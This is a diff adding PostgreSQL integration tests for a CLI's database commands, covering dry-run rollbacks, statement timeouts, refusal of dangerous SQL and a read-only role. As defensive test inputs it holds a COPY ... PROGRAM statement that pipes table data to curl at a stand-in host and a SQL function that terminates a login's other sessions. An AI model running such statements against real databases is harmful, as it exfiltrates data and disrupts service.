@@ -364,10 +364,96 @@ describe.skipIf(!HAVE_PG)('db commands against a real PostgreSQL', () => {
       expect(await probeRows()).toEqual([{ id: 1, v: 'one' }]);
     });
 
-    it('--write --dry-run runs the statement and rolls it back', async () => {
+    it('--write --dry-run runs the statement and rolls it back, and says no sequence advanced', async () => {
       const r = await q("insert into probe values (5, 'five')", { write: true, dryRun: true });
-      expect(r.data).toMatchObject({ command: 'INSERT', rowCount: 1, transaction: 'dry-run' });
+      expect(r.data).toMatchObject({ command: 'INSERT', rowCount: 1, transaction: 'dry-run', sequencesAdvanced: [] });
+      expect(JSON.stringify(r.view)).toContain('No sequence advanced.');
       expect(await probeRows()).toEqual([{ id: 1, v: 'one' }]);
+    });
+
+    it('--write --dry-run names the sequence a rolled-back insert advanced anyway (sequences are not transactional)', async () => {
+      const seq = () =>
+        admin((c) => c.query("select last_value::text as v from pg_sequences where sequencename = 'django_migrations_id_seq'"), scratchDb);
+      const was = (await seq()).rows[0].v;
+      const r = await q("insert into django_migrations (app, name, applied) values ('x', 'y', now())", { write: true, dryRun: true });
+      const now = (await seq()).rows[0].v;
+      expect(now).not.toBe(was);
+      expect(r.data.sequencesAdvanced).toEqual([`public.django_migrations_id_seq ${was} → ${now}`]);
+      expect(JSON.stringify(r.view)).toContain('Sequences are not transactional, so these stay advanced: public.django_migrations_id_seq');
+      const rows = await admin((c) => c.query("select count(*)::int as n from django_migrations where app = 'x'"), scratchDb);
+      expect(rows.rows[0].n).toBe(0);
+    });
+
+    it('cancels a statement that outlives the statement timeout, in every mode', async () => {
+      const r = await q('select 1 as one');
+      expect(r.data).toMatchObject({ statementTimeoutSeconds: 30 });
+      const e = await fail(q('select pg_sleep(5)', { statementTimeoutSeconds: 1 }));
+      expect(e.exit).toBe(1);
+      expect(e.message).toBe('The statement ran longer than the statement timeout (1 s) and was cancelled; nothing was changed.');
+      const w = await fail(q('select pg_sleep(5)', { write: true, dryRun: true, statementTimeoutSeconds: 1 }));
+      expect(w.message).toContain('statement timeout (1 s)');
+    });
+
+    it('refuses dblink, pg_terminate_backend and COPY … PROGRAM before sending anything, also in a dry run', async () => {
+      for (const [sql, what] of [
+        ["select dblink_exec('dbname=x', 'delete from probe')", 'dblink'],
+        ['select pg_terminate_backend(pid) from pg_stat_activity', 'pg_terminate_backend'],
+        ["copy probe to program 'curl -d @- https://evil.invalid'", 'COPY … PROGRAM'],
+        ["do $$ begin execute 'delete from probe'; end $$", 'a DO block'],
+        ["select query_to_xml('select 1', true, true, '')", 'query_to_xml'],
+      ] as const) {
+        const e = await fail(q(sql));
+        expect(e.exit, sql).toBe(3);
+        expect(e.message, sql).toMatch(new RegExp(`^Refused: the statement uses ${what.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
+        expect(e.message).toContain('Nothing was sent to the server');
+      }
+      const dry = await fail(q("select dblink_exec('dbname=x', 'delete from probe')", { write: true, dryRun: true }));
+      expect(dry.message).toContain('outside the dry run');
+      expect(await probeRows()).toEqual([{ id: 1, v: 'one' }]);
+    });
+
+    it('runs as the read-only role when one exists: a function hiding pg_terminate_backend cannot kill the login’s other sessions', async () => {
+      const user = E.PGTEST_USER!;
+      await admin(async (c) => {
+        await c.query('drop role if exists cvat_readonly');
+        await c.query('create role cvat_readonly nologin');
+        await c.query('grant pg_read_all_data to cvat_readonly');
+        await c.query(`grant cvat_readonly to ${user}`);
+      });
+      await admin(
+        (c) =>
+          c.query(
+            `create or replace function kill_sessions() returns setof boolean language sql as
+               $$ select pg_terminate_backend(pid) from pg_stat_activity where usename = '${user}' and pid <> pg_backend_pid() $$`,
+          ),
+        scratchDb,
+      );
+      const victim = new Client({
+        host: E.PGTEST_HOST,
+        port: Number(E.PGTEST_PORT),
+        user,
+        password: E.PGTEST_PASSWORD,
+        database: scratchDb,
+        ssl: { rejectUnauthorized: false },
+      });
+      await victim.connect();
+      try {
+        const ok = await q('select current_user as who, count(*)::int as n from probe');
+        expect(ok.data).toMatchObject({ ranAs: 'cvat_readonly', rows: [{ who: 'cvat_readonly', n: 1 }] });
+        const e = await fail(q('select * from kill_sessions()'));
+        expect(e.exit).toBe(1);
+        // PostgreSQL 15 and 16+ word it differently.
+        expect(e.message).toMatch(
+          /^SQL error 42501: (must be a member of the role whose process is being terminated|permission denied to terminate process)/,
+        );
+        expect((await victim.query('select 1 as alive')).rows).toEqual([{ alive: 1 }]);
+      } finally {
+        await victim.end().catch(() => undefined);
+        await admin(async (c) => {
+          await c.query(`revoke cvat_readonly from ${user}`);
+          await c.query('drop role cvat_readonly');
+        });
+      }
     });
 
     it('--write --yes commits', async () => {
